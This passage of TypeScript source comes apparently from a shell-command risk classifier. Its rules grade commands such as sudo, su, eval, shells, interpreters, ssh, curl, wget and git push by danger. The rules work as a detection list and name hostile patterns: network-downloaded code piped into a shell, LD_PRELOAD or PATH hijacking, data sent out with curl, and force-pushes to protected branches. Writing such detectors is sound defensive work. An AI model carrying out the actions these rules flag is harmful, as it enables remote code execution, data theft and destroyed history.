    if (rest.includes('-f') && (dir === undefined || /^\/([^/]+\/?){0,2}$/.test(dir))) out.red(`dconf reset -f ${dir ?? ''} wipes all the desktop settings under it`.trimEnd());
    else out.yellow('dconf reset resets desktop settings');
  } else if (verb === 'read' || verb === 'list' || verb === 'dump' || verb === 'watch' || verb === 'help') out.green(`dconf ${verb} only reads`);
  else out.yellow(`dconf ${verb ?? ''} changes desktop settings`.replace('  ', ' '));
};

const gsettingsRule: Rule = (inv, out) => {
  const verb = inv.args.find((a) => !(a.value ?? '').startsWith('-'))?.value;
  if (verb !== undefined && /^(get|list-\w+|range|describe|writable|monitor|help)$/.test(verb)) out.green(`gsettings ${verb} only reads`);
  else out.yellow('gsettings changes desktop settings');
};

// ---------------------------------------------------------------------------------------------
// Wrappers: commands that run other commands

/** What a shell or interpreter does with its standard input. */
function runsStdin(inv: Invocation, out: Verdict, env: RuleEnv, what: string, canRead: boolean): void {
  const stdin = inv.stdin;
  if (stdin.kind === 'pipe') {
    if (stdin.download) return out.red(`pipes code downloaded from the network into ${what}`);
    if (stdin.text !== undefined && canRead) {
      if (stdin.decoded) out.yellow(`${what} runs decoded (obfuscated) commands`);
      env.nestedSource(stdin.text, `${what} (standard input)`);
      return out.green(`${what} runs the commands shown`);
    }
    return out.yellow(`${what} runs code read from ${stdin.from}`);
  }
  if (stdin.kind === 'file') return out.yellow(`${what} runs code from ${stdin.path}`);
  out.yellow(`starts an interactive ${what}`);
}

/** `cmd ARGS…` after a wrapper's own options; the wrapper itself is `level`. */
function wrapper(spec: OptionSpec, level: 'green' | 'yellow', what: (name: string) => string, skip = 0): Rule {
  return (inv, out, env) => {
    const o = parseOptions(inv.args, { ...spec, stopAtOperand: true });
    out.addFlags(o.display);
    const argv = o.operands.slice(skip);
    if (argv.length === 0) return out.raise(level, `${inv.name} without a command`);
    env.nestedArgv(argv, inv.name, inv.stdin);
    out.raise(level, what(shown(argv[0] as Arg)));
  };
}

const PRIVILEGE_SPEC: OptionSpec = {
  short: { u: 'user', g: 'group', e: 'edit', s: 'shell', i: 'login', l: 'list', E: 'preserve-env', H: 'set-home', n: 'non-interactive', b: 'background', k: 'reset-timestamp', K: 'remove-timestamp', v: 'validate', S: 'stdin', A: 'askpass', C: 'close-from', D: 'chdir', h: 'host', p: 'prompt', r: 'role', t: 'type', T: 'command-timeout', U: 'other-user' },
  long: { user: 'user', group: 'group', edit: 'edit', shell: 'shell', login: 'login', list: 'list', 'preserve-env': 'preserve-env', 'set-home': 'set-home', 'non-interactive': 'non-interactive', background: 'background', 'reset-timestamp': 'reset-timestamp', 'remove-timestamp': 'remove-timestamp', validate: 'validate', stdin: 'stdin', askpass: 'askpass', 'close-from': 'close-from', chdir: 'chdir', host: 'host', prompt: 'prompt', role: 'role', type: 'type', 'command-timeout': 'command-timeout', 'other-user': 'other-user', chroot: 'chroot' },
  shortValue: 'ugCDhprtTUR',
  longValue: ['user', 'group', 'close-from', 'chdir', 'host', 'prompt', 'role', 'type', 'command-timeout', 'other-user', 'chroot'],
  stopAtOperand: true,
};

/** sudo, doas, pkexec, run0: RED themselves; what they run is classified too, for the reasons. */
const privilegeRule: Rule = (inv, out, env) => {
  const spec: OptionSpec = inv.name === 'doas' ? { shortValue: 'uC', short: { u: 'user', s: 'shell', n: 'non-interactive' }, stopAtOperand: true } : PRIVILEGE_SPEC;
  const o = parseOptions(inv.args, spec);
  out.addFlags(o.display);
  const who = o.value('user') ? `as ${shown(o.value('user') as Arg)}` : 'as root';
  if (inv.name === 'sudoedit' || o.has('edit')) {
    for (const file of o.operands) checkPath(file, 'write', out, env.paths);
    return out.red(`${inv.name} edits ${o.operands.map(shown).join(' ')} ${who}`);
  }
  const [command] = o.operands;
  if (!command) {
    if (o.has('shell', 'login')) return out.red(`${inv.name} opens a shell ${who}`);
    return out.red(`${inv.name} uses administrator rights`);
  }
  env.nestedArgv(o.operands, inv.name, inv.stdin);
  out.red(`${inv.name} runs ${shown(command)} ${who}`);
};

const suRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, { short: { c: 'command', s: 'shell', l: 'login', m: 'preserve-environment', p: 'preserve-environment', g: 'group', G: 'supp-group' }, shortValue: 'csgGw', long: { command: 'command', shell: 'shell', login: 'login', 'preserve-environment': 'preserve-environment', group: 'group', 'supp-group': 'supp-group', pty: 'pty', 'session-command': 'command' }, longValue: ['command', 'shell', 'group', 'supp-group', 'whitelist-environment'] });
  const user = o.operands.find((a) => a.value !== '-');
  const who = user ? `as ${shown(user)}` : 'as root';
  const command = o.value('command');
  if (command) {
    env.nestedSource(shellText(command), 'su -c');
    return out.red(`su -c runs ${shellText(command)} ${who}`);
  }
  out.red(`su opens a shell ${who}`);
};

/** gosu, su-exec, runuser, setpriv: switch user (only possible as root already) and run a command. */
const switchUserRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, { stopAtOperand: true, shortValue: 'ugc', longValue: ['user', 'group', 'command', 'reuid', 'regid', 'groups'] });
  const argv = inv.name === 'gosu' || inv.name === 'su-exec' ? o.operands.slice(1) : o.operands;
  if (argv.length > 0) env.nestedArgv(argv, inv.name, inv.stdin);
  out.yellow(`${inv.name} runs a command as another user`);
};

const envRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, { short: { i: 'ignore-environment', '0': 'null', u: 'unset', C: 'chdir', S: 'split-string', v: 'debug', P: 'path' }, shortValue: 'uCSP', long: { 'ignore-environment': 'ignore-environment', null: 'null', unset: 'unset', chdir: 'chdir', 'split-string': 'split-string', debug: 'debug', 'block-signal': 'block-signal', 'default-signal': 'default-signal', 'ignore-signal': 'ignore-signal', 'list-signal-handling': 'list-signal-handling' }, longValue: ['unset', 'chdir', 'split-string'], stopAtOperand: true });
  out.addFlags(o.display);
  let argv = o.operands;
  while (argv[0]?.value !== undefined && (/^[A-Za-z_][A-Za-z0-9_]*=/.test(argv[0].value) || argv[0].value === '-')) {
    const name = argv[0].value.split('=')[0] as string;
    if (/^(LD_PRELOAD|LD_LIBRARY_PATH|LD_AUDIT|DYLD_\w+|PATH|BASH_ENV|ENV|NODE_OPTIONS|PYTHONSTARTUP|PERL5OPT|RUBYOPT|PROMPT_COMMAND|\w*_COMMAND|PAGER|GIT_PAGER|EDITOR|VISUAL)$/.test(name)) out.yellow(`env sets ${name}, which changes what programs load or run`);
    argv = argv.slice(1);
  }
  const split = o.value('split-string');
  if (split) {
    env.nestedSource([shellText(split), ...argv.map((a) => shellText(a, env.paths))].join(' '), 'env -S');
    return out.green('env runs the command shown');
  }
  if (argv.length === 0) return out.green('env only prints the environment');
  env.nestedArgv(argv, 'env', inv.stdin);
  out.green(`env runs ${shown(argv[0] as Arg)}`);
};

const commandRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, { stopAtOperand: true });
  if (o.has('-v', '-V')) return out.green(`${inv.name} -v only looks a command up`);
  if (o.operands.length === 0) return out.green(`${inv.name} without a command`);
  env.nestedArgv(o.operands, inv.name, inv.stdin);
  out.green(`${inv.name} runs ${shown(o.operands[0] as Arg)}`);
};

const execRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, { shortValue: 'a', stopAtOperand: true });
  if (o.operands.length === 0) return out.green('exec only redirects');
  env.nestedArgv(o.operands, 'exec', inv.stdin);
  out.yellow(`exec replaces the shell with ${shown(o.operands[0] as Arg)}`);
};

const timeRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, { short: { o: 'output', f: 'format' }, shortValue: 'of', long: { output: 'output', format: 'format', append: 'append', verbose: 'verbose', portability: 'portability', quiet: 'quiet' }, longValue: ['output', 'format'], stopAtOperand: true });
  for (const file of o.values.get('output') ?? []) checkPath(file, 'write', out, env.paths);
  if (o.operands.length > 0) env.nestedArgv(o.operands, 'time', inv.stdin);
  out.green('time only measures');
};

const timeoutRule = wrapper({ shortValue: 'ks', long: { 'kill-after': 'kill-after', signal: 'signal', 'preserve-status': 'preserve-status', foreground: 'foreground', verbose: 'verbose' }, longValue: ['kill-after', 'signal'] }, 'green', (c) => `timeout runs ${c} with a time limit`, 1);
const niceRule = wrapper({ shortValue: 'n', long: { adjustment: 'adjustment' }, longValue: ['adjustment'] }, 'green', (c) => `nice runs ${c} at another priority`);
const stdbufRule = wrapper({ shortValue: 'ioe', longValue: ['input', 'output', 'error'] }, 'green', (c) => `stdbuf runs ${c}`);
const nohupRule = wrapper({}, 'yellow', (c) => `nohup keeps ${c} running after the terminal closes`);
const setsidRule = wrapper({}, 'yellow', (c) => `setsid runs ${c} detached from the terminal`);
const unbufferRule = wrapper({}, 'green', (c) => `unbuffer runs ${c}`);
const caffeinateRule = wrapper({ shortValue: 'tw' }, 'green', (c) => `caffeinate runs ${c}`);
const firejailRule = wrapper({}, 'green', (c) => `firejail runs ${c} in a sandbox`);
const chrootRule = wrapper({ longValue: ['userspec', 'groups'] }, 'yellow', (c) => `chroot runs ${c} in another root directory`, 1);
const unshareRule = wrapper({ shortValue: 'SGRw', longValue: ['setuid', 'setgid', 'root', 'wd', 'propagation', 'map-user', 'map-group'] }, 'yellow', (c) => `unshare runs ${c} in new namespaces`);
const nsenterRule = wrapper({ shortValue: 'tSGrw', longValue: ['target', 'setuid', 'setgid', 'root', 'wd'] }, 'yellow', (c) => `nsenter runs ${c} in another process's namespaces`);
const systemdRunRule = wrapper({ shortValue: 'pEMHu', longValue: ['property', 'setenv', 'machine', 'host', 'unit', 'description', 'slice', 'uid', 'gid', 'nice', 'working-directory', 'on-active', 'on-boot', 'on-startup', 'on-unit-active', 'on-unit-inactive', 'on-calendar', 'timer-property', 'path-property', 'socket-property', 'service-type'] }, 'yellow', (c) => `systemd-run starts ${c} as a service`);
const busyboxRule = wrapper({}, 'green', (c) => `busybox runs ${c}`);

const ioniceRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, { shortValue: 'cnpPu', long: { class: 'class', classdata: 'classdata', pid: 'pid', pgid: 'pgid', uid: 'uid', ignore: 'ignore' }, longValue: ['class', 'classdata', 'pid', 'pgid', 'uid'], stopAtOperand: true });
  if (o.has('-p', '-P', '-u', 'pid', 'pgid', 'uid')) return out.yellow('ionice changes the priority of running processes');
  if (o.operands.length > 0) env.nestedArgv(o.operands, 'ionice', inv.stdin);
  out.green('ionice runs a command at another priority');
};

const tasksetRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, { stopAtOperand: true });
  if (o.has('-p', '--pid')) return out.yellow('taskset changes the CPU affinity of a running process');
  if (o.operands.length > 1) env.nestedArgv(o.operands.slice(1), 'taskset', inv.stdin);
  out.green('taskset runs a command on chosen CPUs');
};

const chrtRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, { shortValue: 'TPD', stopAtOperand: true });
  if (o.has('-p', '--pid')) return out.yellow('chrt changes the scheduling of a running process');
  if (o.operands.length > 1) env.nestedArgv(o.operands.slice(1), 'chrt', inv.stdin);
  out.yellow('chrt changes scheduling priority');
};

const flockRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, { shortValue: 'wE', longValue: ['timeout', 'conflict-exit-code'], stopAtOperand: true });
  const [, next, ...rest] = o.operands;
  if (next && (next.value === '-c' || next.value === '--command') && rest[0]) env.nestedSource(shellText(rest[0]), 'flock -c');
  else if (next) env.nestedArgv(o.operands.slice(1), 'flock', inv.stdin);
  out.green('flock runs a command under a lock');
};

const scriptRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, { short: { c: 'command', a: 'append', q: 'quiet', f: 'flush', e: 'return' }, shortValue: 'cIOBTEm', long: { command: 'command' }, longValue: ['command', 'log-in', 'log-out', 'log-io', 'log-timing', 'echo', 'logging-format'] });
  const command = o.value('command');
  if (command) env.nestedSource(shellText(command), 'script -c');
  const file = o.operands[0] ?? literalArg('typescript');
  checkPath(file, 'write', out, env.paths);
  out.yellow('script records the terminal session to a file');
};

const watchRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, { short: { n: 'interval', x: 'exec', d: 'differences' }, shortValue: 'nq', shortOptionalValue: 'd', long: { interval: 'interval', exec: 'exec', differences: 'differences' }, longValue: ['interval'], stopAtOperand: true });
  if (o.operands.length === 0) return out.green('watch without a command');
  if (o.has('exec')) env.nestedArgv(o.operands, 'watch -x', inv.stdin);
  else env.nestedSource(o.operands.map((a) => shellText(a, env.paths)).join(' '), 'watch');
  out.green('watch runs a command repeatedly');
};

const XARGS_SPEC: OptionSpec = {
  short: { '0': 'null', r: 'no-run-if-empty', t: 'verbose', p: 'interactive', x: 'exit', o: 'open-tty', I: 'replace', i: 'replace', a: 'arg-file', d: 'delimiter', n: 'max-args', P: 'max-procs', L: 'max-lines', l: 'max-lines', s: 'max-chars', E: 'eof', e: 'eof' },
  long: { null: 'null', 'no-run-if-empty': 'no-run-if-empty', verbose: 'verbose', interactive: 'interactive', exit: 'exit', 'open-tty': 'open-tty', replace: 'replace', 'arg-file': 'arg-file', delimiter: 'delimiter', 'max-args': 'max-args', 'max-procs': 'max-procs', 'max-lines': 'max-lines', 'max-chars': 'max-chars', eof: 'eof', 'process-slot-var': 'process-slot-var', 'show-limits': 'show-limits' },
  shortValue: 'IadnPLsE',
  shortOptionalValue: 'iel',
  longValue: ['arg-file', 'delimiter', 'max-args', 'max-procs', 'max-chars', 'process-slot-var'],
  stopAtOperand: true,
};

const xargsRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, XARGS_SPEC);
  out.addFlags(o.display);
  const argv = o.operands.length > 0 ? o.operands : [literalArg('echo')];
  const replace = o.value('replace')?.value ?? (o.has('replace') ? '{}' : undefined);
  const items = 'items read from standard input';
  const withItems = replace !== undefined ? argv.map((a, i) => (i > 0 && a.value?.includes(replace) ? unknownArg(`${a.text} (${items})`) : a)) : [...argv, unknownArg(`(${items})`)];
  const first = withItems[0] as Arg;
  if (replace !== undefined && first.value === undefined) out.yellow('xargs runs a command named by its input');
  env.nestedArgv(withItems, 'xargs');
  out.green(`xargs runs ${shown(first)} on its input`);
};

const SHELL_SPEC: OptionSpec = {
  short: { c: 'c', s: 's', n: 'noexec', i: 'i', l: 'login' },
  long: { login: 'login', norc: 'norc', noprofile: 'noprofile', rcfile: 'rcfile', 'init-file': 'rcfile', posix: 'posix', restricted: 'restricted', verbose: 'verbose', noediting: 'noediting', debugger: 'debugger', help: 'help', version: 'version' },
  shortValue: 'oO',
  longValue: ['rcfile'],
  plusOptions: true,
  stopAtOperand: true,
};
const FISH_SPEC: OptionSpec = {
  short: { c: 'c', C: 'init-command', n: 'noexec', i: 'i', l: 'login', d: 'debug', p: 'profile' },
  long: { command: 'c', 'init-command': 'init-command', 'no-execute': 'noexec', interactive: 'i', login: 'login', debug: 'debug', profile: 'profile', private: 'private', version: 'version', help: 'help' },
  shortValue: 'cCdp',
  longValue: ['c', 'init-command', 'debug', 'profile'],
  stopAtOperand: true,
};

const shellRule: Rule = (inv, out, env) => {
  const fish = inv.name === 'fish';
  const o = parseOptions(inv.args, fish ? FISH_SPEC : SHELL_SPEC);
  out.addFlags(o.display);
  if (o.has('noexec')) return out.green(`${inv.name} -n only checks syntax`);
  const code = fish ? o.value('c') : o.has('c') ? o.operands[0] : undefined;
  if (code) {
    if (env.fetchesCode(code.word)) out.red(`${inv.name} -c runs code downloaded from the network`);
    if (code.value === undefined) out.yellow(`${inv.name} -c runs a command string known only at run time`);
    env.nestedSource(shellText(code, env.paths), `${inv.name} -c`);
    return out.green(`${inv.name} -c runs the commands shown`);
  }
  const script = o.has('s') ? undefined : o.operands[0];
  if (script && script.value !== '-' && script.value !== '/dev/stdin') {
    if (env.fetchesCode(script.word)) return out.red(`${inv.name} runs a script downloaded from the network (${script.text})`);
    return out.yellow(`${inv.name} runs the script ${shown(script)}`);
  }
  runsStdin(inv, out, env, inv.name, true);
};

/** at, batch: run shell commands (from stdin or -f FILE) later. */
const atRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, { shortValue: 'fqtM', short: { f: 'file', l: 'list', r: 'remove', d: 'remove', c: 'cat' } });
  if (o.has('list', 'cat') || inv.name === 'atq') return out.green(`${inv.name} only lists jobs`);
  if (o.has('remove') || inv.name === 'atrm') return out.yellow(`${inv.name} removes scheduled jobs`);
  if (o.has('file')) out.yellow(`${inv.name} schedules the commands in ${shown(o.value('file') as Arg)}`);
  else runsStdin(inv, out, env, inv.name, true);
  out.yellow(`${inv.name} schedules commands to run later`);
};

const evalRule: Rule = (inv, out, env) => {
  if (inv.args.length === 0) return out.green('eval of nothing');
  if (inv.args.some((a) => env.fetchesCode(a.word))) out.red('eval runs code downloaded from the network');
  if (inv.args.some((a) => a.value === undefined)) out.yellow('eval runs text known only at run time');
  env.nestedSource(inv.args.map((a) => shellText(a, env.paths)).join(' '), 'eval');
  out.green('eval runs the commands shown');
};

const sourceRule: Rule = (inv, out, env) => {
  const file = inv.args[0];
  if (!file) return out.yellow(`${inv.name} without a file`);
  if (env.fetchesCode(file.word)) return out.red(`${inv.name} runs code downloaded from the network in this shell`);
  if (file.value === '/dev/stdin' || file.value === '-') return runsStdin(inv, out, env, inv.name, true);
  out.yellow(`${inv.name} runs the commands in ${shown(file)} in this shell`);
};

const aliasRule: Rule = (inv, out, env) => {
  const definitions = inv.args.filter((a) => a.value === undefined || a.value.includes('='));
  if (definitions.length === 0) return out.green('alias only lists aliases');
  for (const d of definitions) {
    const text = shellText(d);
    const eq = text.indexOf('=');
    if (eq > 0) env.nestedSource(text.slice(eq + 1), `alias ${text.slice(0, eq)}`);
    out.yellow(`alias ${eq > 0 ? text.slice(0, eq) : text} changes what a command name runs`);
  }
};

const trapRule: Rule = (inv, out, env) => {
  const [action, ...signals] = inv.args;
  if (!action || action.value === '-l' || action.value === '-p') return out.green('trap only lists');
  if (action.value !== '-' && action.value !== '') env.nestedSource(shellText(action), 'trap');
  out.yellow(`trap runs ${shellText(action) || 'nothing'} when the shell gets ${signals.map(shown).join(' ') || 'a signal'}`);
};

/** python -c, node -e, perl -e …: at least YELLOW; shell commands in string literals are classified too. */
const interpreterRule: Rule = (inv, out, env) => {
  const kind = interpreterName(inv.name);
  const spec = INTERPRETERS[kind];
  if (!spec) return out.yellow(`${inv.name} runs code`);
  const args = inv.args;
  for (let i = 0; i < args.length; i++) {
    const v = args[i]?.value;
    if (v === undefined) {
      if (env.fetchesCode((args[i] as Arg).word)) return out.red(`${inv.name} runs a script downloaded from the network`);
      return out.yellow(`${inv.name} runs code known only at run time`);
    }
    const inline = spec.inline.includes(v) || ((kind === 'perl' || kind === 'ruby') && /^-[a-zA-Z]*[eE]$/.test(v));
    if (inline) {
      const code = args[i + 1];
      if (code && env.fetchesCode(code.word)) out.red(`${inv.name} runs code downloaded from the network`);
      const text = code ? shellText(code) : '';
      for (const command of embeddedCommands(text)) env.nestedSource(command, `${inv.name} inline code`);
      for (const m of text.matchAll(/\b(?:rmtree|rmSync|rm_rf|remove_dir_all)\s*\(\s*(["'])([^"']+)\1/g)) env.nestedArgv([literalArg('rm'), literalArg('-rf'), literalArg(m[2] as string)], `${inv.name} inline code`);
      if (kind === 'perl' && /^-[a-zA-Z]*i/.test(v)) out.yellow('perl -i edits files in place');
      return out.yellow(`${inv.name} runs inline ${spec.label} code`);
    }
    if (kind === 'python' && v === '-m') {
      const module = args[i + 1]?.value;
      if ((module === 'pip' || module === 'pip3') && RULES.pip) return RULES.pip({ name: 'pip', args: args.slice(i + 2), stdin: inv.stdin }, out, env);
      return out.yellow(`${inv.name} -m runs the module ${module ?? ''}`.trimEnd());
    }
    if (v === '-' || !v.startsWith('-')) {
      if (v === '-') return runsStdin(inv, out, env, inv.name, false);
      if (env.fetchesCode((args[i] as Arg).word)) return out.red(`${inv.name} runs a script downloaded from the network`);
      return out.yellow(`${inv.name} runs the script ${v}`);
    }
    if (kind === 'python' && /^-[WXQ]$/.test(v)) i++;
    if ((kind === 'node' || kind === 'nodejs') && /^(-r|--require|--import|--loader|--input-type)$/.test(v)) i++;
  }
  runsStdin(inv, out, env, inv.name, false);
};

const sshRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, { shortValue: 'BbcDEeFIiJLlmOopQRSWw', stopAtOperand: true });
  out.addFlags(o.display);
  const [host, ...command] = o.operands;
  if (!host) return out.yellow('ssh without a host');
  if (command.length === 0) {
    if (inv.stdin.kind === 'pipe' && inv.stdin.download) return out.red(`pipes code downloaded from the network into a remote shell on ${shown(host)}`);
    return out.yellow(o.has('-N') ? `ssh opens a tunnel to ${shown(host)}` : `ssh opens a remote shell on ${shown(host)}`);
  }
  env.nestedSource(command.map((a) => shellText(a, env.paths)).join(' '), `ssh ${shown(host)}`);
  out.yellow(`ssh runs a command on ${shown(host)}`);
};

const remoteCopyRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, { shortValue: 'cFiJloPSDXB' });
  const dest = o.operands[o.operands.length - 1];
  if (dest && o.operands.length >= 2 && !/^[^/]*:/.test(dest.value ?? 'x:')) checkPath(dest, 'write', out, env.paths);
  out.yellow(`${inv.name} copies files between machines`);
};

const CURL_SPEC: OptionSpec = {
  short: { o: 'output', O: 'remote-name', D: 'dump-header', c: 'cookie-jar', T: 'upload-file', d: 'data', F: 'form', X: 'request', K: 'config' },
  long: { output: 'output', 'remote-name': 'remote-name', 'remote-name-all': 'remote-name', 'output-dir': 'output-dir', 'dump-header': 'dump-header', 'cookie-jar': 'cookie-jar', 'upload-file': 'upload-file', data: 'data', 'data-raw': 'data', 'data-binary': 'data', 'data-urlencode': 'data', 'data-ascii': 'data', json: 'data', form: 'form', 'form-string': 'form', request: 'request', config: 'config', trace: 'trace', 'trace-ascii': 'trace', stderr: 'stderr', libcurl: 'libcurl', 'etag-save': 'etag-save', 'hsts': 'hsts', 'alt-svc': 'alt-svc' },
  shortValue: 'AbcCdDeEFHKmoPQrTuUwxXyYzt',
  longValue: ['output', 'output-dir', 'dump-header', 'cookie-jar', 'upload-file', 'data', 'form', 'request', 'config', 'trace', 'stderr', 'libcurl', 'etag-save', 'hsts', 'alt-svc', 'cookie', 'header', 'user', 'user-agent', 'referer', 'proxy', 'max-time', 'connect-timeout', 'retry', 'range', 'write-out', 'url', 'cert', 'key', 'cacert', 'capath', 'resolve', 'connect-to', 'interface', 'limit-rate', 'max-filesize', 'oauth2-bearer', 'proto', 'proto-redir', 'continue-at', 'time-cond', 'quote', 'retry-delay', 'retry-max-time', 'variable', 'etag-compare', 'netrc-file', 'unix-socket', 'proxy-user', 'aws-sigv4', 'ciphers', 'dns-servers', 'expect100-timeout', 'keepalive-time', 'local-port', 'max-redirs', 'noproxy', 'preproxy', 'pubkey', 'request-target', 'service-name', 'socks5', 'socks5-hostname', 'speed-limit', 'speed-time', 'tls-max', 'tlsuser', 'tlspassword', 'url-query'],
};

/** curl: always YELLOW (a network request can send data out and have effects on the other side); RED when it writes somewhere it must not. */
const curlRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, CURL_SPEC);
  out.addFlags(o.display);
  for (const name of ['output', 'dump-header', 'cookie-jar', 'trace', 'stderr', 'libcurl', 'etag-save', 'hsts', 'alt-svc']) {
    for (const file of o.values.get(name) ?? []) if (file.value !== '-') checkPath(file, 'write', out, env.paths);
  }
  const dir = o.value('output-dir');
  if (o.has('remote-name')) {
    if (dir) checkPath(dir, 'write', out, env.paths);
    out.yellow('curl -O saves the download as a file');
  }
  if (o.has('upload-file', 'data', 'form') || /^(POST|PUT|PATCH|DELETE)$/i.test(o.value('request')?.value ?? '')) out.yellow('curl sends data to a server');
  if (o.has('config')) out.yellow('curl -K reads options from a file Tandem cannot see');
  out.yellow('curl makes a network request (it can send data out)');
};

const wgetRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, { short: { O: 'output-document', P: 'directory-prefix', o: 'output-file', a: 'append-output', i: 'input-file' }, shortValue: 'OPoaieUtTwQlABDIXR', long: { 'output-document': 'output-document', 'directory-prefix': 'directory-prefix', 'output-file': 'output-file', 'append-output': 'append-output', 'input-file': 'input-file', 'post-data': 'post', 'post-file': 'post', method: 'method', 'body-data': 'post', 'body-file': 'post' }, longValue: ['output-document', 'directory-prefix', 'output-file', 'append-output', 'input-file', 'post', 'method', 'user-agent', 'header', 'user', 'password', 'tries', 'timeout', 'wait', 'quota', 'level', 'accept', 'reject', 'domains', 'exclude-domains', 'load-cookies', 'save-cookies', 'referer', 'limit-rate'] });
  out.addFlags(o.display);
  const document = o.value('output-document');
  if (document && document.value !== '-') checkPath(document, 'write', out, env.paths);
  for (const name of ['output-file', 'append-output', 'save-cookies']) for (const file of o.values.get(name) ?? []) checkPath(file, 'write', out, env.paths);
  const prefix = o.value('directory-prefix');
  if (prefix) checkPath(prefix, 'write', out, env.paths);
  if (!document || document.value !== '-') out.yellow('wget saves the download as a file');
  if (o.has('post') || (o.value('method') && !/^(GET|HEAD)$/i.test(o.value('method')?.value ?? ''))) out.yellow('wget sends data to a server');
  out.yellow('wget makes a network request (it can send data out)');
};

// ---------------------------------------------------------------------------------------------
// git

/** Branches whose history other people build on: force-pushing or deleting them is RED. */
const PROTECTED_BRANCHES = /^(main|master|trunk|production|prod|release)$/;

const GIT_READ: ReadonlySet<string> = new Set([
  'status', 'log', 'diff', 'show', 'rev-parse', 'blame', 'annotate', 'describe', 'ls-files', 'ls-tree', 'ls-remote', 'grep', 'shortlog',
  'cat-file', 'rev-list', 'whatchanged', 'name-rev', 'merge-base', 'count-objects', 'for-each-ref', 'show-ref', 'show-branch', 'help',
  'version', 'var', 'check-ignore', 'check-attr', 'check-ref-format', 'check-mailmap', 'cherry', 'range-diff', 'diff-tree', 'diff-files',
  'diff-index', 'verify-commit', 'verify-tag', 'verify-pack', 'fsck', 'get-tar-commit-id', 'column',
]);

/** What git subcommands that change things do, for the reason. */
const GIT_CHANGE: Readonly<Record<string, string>> = {
  commit: 'records a commit', add: 'stages changes', fetch: 'updates remote-tracking branches', pull: 'merges remote changes into the working tree',
  merge: 'merges branches', rebase: 'rewrites commits onto another base', 'cherry-pick': 'applies commits', revert: 'records reverting commits',
  am: 'applies mailed patches', apply: 'changes files from a patch', mv: 'moves files', init: 'creates a repository', clone: 'copies a repository',
  switch: 'switches branches', gc: 'packs the repository (and prunes unreachable objects)', prune: 'deletes unreachable objects',
  'filter-branch': 'rewrites the whole history', 'filter-repo': 'rewrites the whole history', 'update-ref': 'moves or deletes refs directly',
  'update-index': 'changes the index directly', 'symbolic-ref': 'changes HEAD directly', replace: 'replaces objects', bisect: 'moves HEAD to bisect',
  sparse: 'changes the checkout', 'sparse-checkout': 'changes the checkout', 'read-tree': 'changes the index', 'checkout-index': 'writes files from the index',
  'commit-tree': 'creates commits', 'hash-object': 'writes objects', 'mktag': 'writes a tag', lfs: 'manages large files', maintenance: 'runs maintenance tasks',
  difftool: 'runs a diff tool', mergetool: 'runs a merge tool', 'format-patch': 'writes patch files', archive: 'writes an archive', bundle: 'writes a bundle',
  'send-email': 'sends email', 'request-pull': 'prints a pull request', 'repack': 'repacks objects', 'pack-refs': 'packs refs', notes: 'changes notes',
};

const GIT_GLOBAL_SPEC: OptionSpec = {
  short: { C: 'C', c: 'c', p: 'paginate', P: 'no-pager' },
  shortValue: 'Cc',
  long: { 'git-dir': 'git-dir', 'work-tree': 'work-tree', namespace: 'namespace', 'no-pager': 'no-pager', paginate: 'paginate', bare: 'bare', 'exec-path': 'exec-path', 'config-env': 'config-env', 'no-replace-objects': 'no-replace-objects', 'literal-pathspecs': 'literal-pathspecs', 'no-optional-locks': 'no-optional-locks' },
  longValue: ['git-dir', 'work-tree', 'namespace', 'config-env'],
  stopAtOperand: true,
};

type GitRule = (args: Arg[], out: Verdict, env: RuleEnv) => void;

/** A push refspec: `+main`, `HEAD:main`, `:main` (delete), `refs/heads/x`. */
function refspec(arg: Arg): { dst?: string; forced: boolean; deleted: boolean; text: string } {
  const v = arg.value;
  if (v === undefined) return { forced: false, deleted: false, text: arg.text };
  const forced = v.startsWith('+');
  const spec = forced ? v.slice(1) : v;
  const colon = spec.indexOf(':');
  const src = colon >= 0 ? spec.slice(0, colon) : spec;
  let dst = (colon >= 0 ? spec.slice(colon + 1) : spec).replace(/^refs\/heads\//, '');
  if (dst === 'HEAD' || dst === '@') dst = '';
  return { dst: dst === '' ? undefined : dst, forced, deleted: colon >= 0 && src === '', text: v };
}

const gitPush: GitRule = (args, out) => {
  const o = parseOptions(args, {
    short: { f: 'force', d: 'delete', u: 'set-upstream', n: 'dry-run', q: 'quiet', v: 'verbose', o: 'push-option' },
    shortValue: 'o',
    long: { force: 'force', 'force-with-lease': 'force-with-lease', 'force-if-includes': 'force-if-includes', mirror: 'mirror', all: 'all', branches: 'all', tags: 'tags', delete: 'delete', 'set-upstream': 'set-upstream', prune: 'prune', 'dry-run': 'dry-run', 'no-verify': 'no-verify', repo: 'repo', 'push-option': 'push-option', 'receive-pack': 'receive-pack', exec: 'receive-pack', atomic: 'atomic', 'follow-tags': 'follow-tags', quiet: 'quiet', verbose: 'verbose' },
    longValue: ['repo', 'push-option', 'receive-pack'],
  });
  out.addFlags(o.display);
  if (o.has('dry-run')) return out.green('git push --dry-run only checks what would be pushed');
  const force = o.has('force', 'force-with-lease') || o.maybeAnyOption;
  const how = o.has('force') ? '--force' : o.has('force-with-lease') ? '--force-with-lease' : 'with options known only at run time';
  const refspecs = o.operands.slice(o.has('repo') ? 0 : 1).map(refspec);
  if (o.has('mirror')) out.red('git push --mirror overwrites and deletes every branch on the remote');
  if (force && o.has('all')) out.red(`git push ${how} --all rewrites every branch on the remote, main included`);
  for (const r of refspecs) {
    const forced = force || r.forced;
    const deleted = o.has('delete') || r.deleted;
    const shownHow = r.forced ? `+${r.dst ?? ''}` : how;
    if (r.dst !== undefined && PROTECTED_BRANCHES.test(r.dst)) {
